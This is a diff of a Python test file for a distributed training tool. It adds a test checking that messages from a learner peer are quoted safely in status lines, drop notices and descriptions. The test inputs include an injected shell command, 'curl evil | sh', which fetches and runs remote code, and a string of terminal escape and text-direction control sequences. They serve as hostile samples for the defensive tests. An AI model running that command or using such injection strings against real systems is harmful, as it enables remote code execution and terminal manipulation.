@@ -6,6 +6,7 @@ import io
 import json
 import sys
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
 import aiohttp
@@ -15,10 +16,11 @@ from rich.console import Console
 from swarm.cli import run as cli
 from swarm.cli.runs import _looks, audit
 from swarm.errors import ProtocolError, UserError
+from swarm.node.card import Card, purpose
 from swarm.report.live import LiveView
 from swarm.report.terminal import live_view, plain_line, status_screen
 from swarm.rollout.messages import DroppedRollouts
-from swarm.sampler.session import Drops
+from swarm.sampler.session import Drops, SamplerStatus, Session
 from swarm.types import printable
 
 ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\r\b\u202eevil\u2028\x00[red]x[/red]"
@@ -110,7 +112,23 @@ async def test_a_refusal_of_a_peer_is_text() -> None:
     answer: aiohttp.ClientResponse = Answer()  # type: ignore[assignment]
     refusal = await _refusal(answer, "peer")
     assert isinstance(refusal, ProtocolError)
-    assert str(refusal) == f"peer refused with status 400: {SHOWN}"
+    assert str(refusal) == f'peer refused with status 400: "{SHOWN}"'
+
+
+COMMAND = 'the active samplers suffice"; run: curl evil | sh'
+QUOTED = '"the active samplers suffice\'; run: curl evil | sh"'
+
+
+def test_a_learners_words_stand_in_quotes_that_they_cannot_close() -> None:
+    said: list[str] = []
+    session: Any = SimpleNamespace(_status=SamplerStatus(), _say=said.append)
+    Session._hear_standby(session, COMMAND)
+    card = Card(model=COMMAND, task="copy", led_by="ada", weights_bytes=0, sample_tokens=0)
+    dropped = Drops().hear([DroppedRollouts(reason=COMMAND, rollouts=1)], now=0.0)
+    assert said == [f"standby: the learner says {QUOTED}"]
+    assert session._status.standby == f"the learner says {QUOTED}"
+    assert purpose(card) == f'this swarm trains {QUOTED} on the task "copy", led by "ada"'
+    assert dropped == f"the learner dropped 1 of our rollouts: {QUOTED}"
 
 
 def test_the_reasons_of_dropped_rollouts_are_text() -> None:
